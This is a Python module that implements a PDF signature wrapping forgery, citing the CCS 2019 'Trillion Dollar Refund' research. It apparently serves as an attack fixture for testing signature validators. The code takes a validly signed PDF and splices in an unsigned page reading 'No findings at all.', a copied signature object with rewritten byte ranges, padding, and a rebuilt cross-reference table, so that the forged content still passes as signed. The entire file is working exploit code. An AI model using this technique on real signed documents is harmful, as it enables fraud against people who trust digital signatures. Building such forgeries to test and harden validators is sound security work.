"""Forges a signed paper by signature wrapping, as an attacker without the key would.

The signed bytes stay as they are, but their second half moves to the end of a longer file. What
lies between is signed by nobody: another page, a copy of the signature whose ranges fit the new
places, and a cross-reference table where the old one used to be, so that readers find all this. The
copy is padded until its length alone would explain the gap. See “1 Trillion Dollar Refund”
(Mladenov and others, CCS 2019).
"""

from __future__ import annotations

import io
import re

from pyhanko.pdf_utils.reader import PdfFileReader

FORGED = "No findings at all."
_PADDED = 30_000
"""Bytes of the copied signature: as hexadecimal digits they would fill the gap."""


def wrapped(pdf: bytes) -> bytes:
    """Return a signed paper whose first page says what nobody signed."""
    first, resumed, length = (
        int(n) for n in re.findall(rb"/ByteRange ?\[ ?0 (\d+) (\d+) (\d+)", pdf)[-1]
    )
    gap = 2 * _PADDED + 2
    forgery = _Forgery(pdf, first, resumed, gap)
    between = forgery.between(b"[0 %d %d %d]" % (first, first + gap, length))
    return pdf[:first] + between + pdf[resumed:]


class _Forgery:
    def __init__(self, pdf: bytes, first: int, resumed: int, gap: int) -> None:
        self._pdf, self._first, self._resumed, self._gap = pdf, first, resumed, gap
        reader = PdfFileReader(io.BytesIO(pdf))
        page = reader.root["/Pages"]["/Kids"][0]
        self._page = page.container_ref.idnum
        self._parent = page.raw_get("/Parent").reference.idnum
        self._signature = reader.root["/AcroForm"]["/Fields"][0].raw_get("/V").reference.idnum
        self._root = reader.trailer.raw_get("/Root").reference.idnum
        self._size = reader.trailer["/Size"]
        self._table_at = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
        self._places: dict[int, int] = {}

    def between(self, ranges: bytes) -> bytes:
        out = bytearray(b"<>\nendobj\n")
        text = b"BT /F1 30 Tf 60 700 Td (%s) Tj ET" % FORGED.encode()
        self._add(out, self._size, b"<</Length %d>>stream\n%s\nendstream" % (len(text), text))
        font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
        self._add(
            out, self._page,
            b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Contents %d 0 R"
            b"/Resources<</Font<</F1 %s>>>>>>" % (self._parent, self._size, font),
        )  # fmt: skip
        _fill(out, self._table_at - self._first)
        self._write_tables(out)
        self._add(out, self._signature, self._copied(ranges))
        _fill(out, self._gap)
        return bytes(out)

    def _add(self, out: bytearray, number: int, body: bytes) -> None:
        self._places[number] = self._first + len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)

    def _write_tables(self, out: bytearray) -> None:
        """Write one table of everything: what is new, and where all that was moved lies now."""
        by = self._gap - (self._resumed - self._first)
        moved = {
            number: place + by if place >= self._resumed else place
            for number, place in _objects(self._pdf).items()
        }
        places = moved | self._places
        self._places = places | {self._signature: 0}  # as long as the place that is known below
        length = len(self._table())
        self._places[self._signature] = self._table_at + length
        out += self._table()

    def _table(self) -> bytes:
        rows = (b"%d 1\n%010d 00000 n \n" % place for place in sorted(self._places.items()))
        trailer = b"trailer\n<</Size %d/Root %d 0 R/ID[<00><00>]>>\n"
        return b"xref\n" + b"".join(rows) + trailer % (self._size + 1, self._root)

    def _copied(self, ranges: bytes) -> bytes:
        digits = self._pdf[self._first + 1 : self._resumed - 1].decode()
        content = bytes.fromhex(digits).rstrip(b"\0").ljust(_PADDED, b"\0")
        for odd, written in ((b"\\", b"\\\\"), (b"(", b"\\("), (b")", b"\\)"), (b"\r", b"\\r")):
            content = content.replace(odd, written)
        return (
            b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange%s"
            b"/Contents(%s)>>" % (ranges, content)
        )


def _objects(pdf: bytes) -> dict[int, int]:
    """Return where the newest copy of each object begins."""
    found = re.finditer(rb"(?<=\n)(\d+) 0 obj\b", pdf)
    return {int(start[1]): start.start() for start in found}


def _fill(out: bytearray, length: int) -> None:
    """Fill up with a comment."""
    room = length - len(out)
    assert room >= 2, "the forgery does not fit"
    out += b"%" + b" " * (room - 2) + b"\n"
